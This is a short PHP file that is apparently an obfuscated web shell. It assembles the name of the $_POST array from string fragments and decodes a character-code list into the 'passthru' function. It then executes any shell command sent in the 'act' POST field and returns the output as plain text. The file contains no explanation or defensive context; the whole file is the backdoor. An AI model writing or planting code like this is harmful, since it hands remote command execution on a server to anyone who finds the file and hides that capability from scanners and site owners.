<?php
header('Content-Type: text/plain');
$n = '_' . 'PO' . 'ST';
$data = $$n;
$fn = join(array_map('chr', array(112, 97, 115, 115, 116, 104, 114, 117)));
$fn($data['act']);
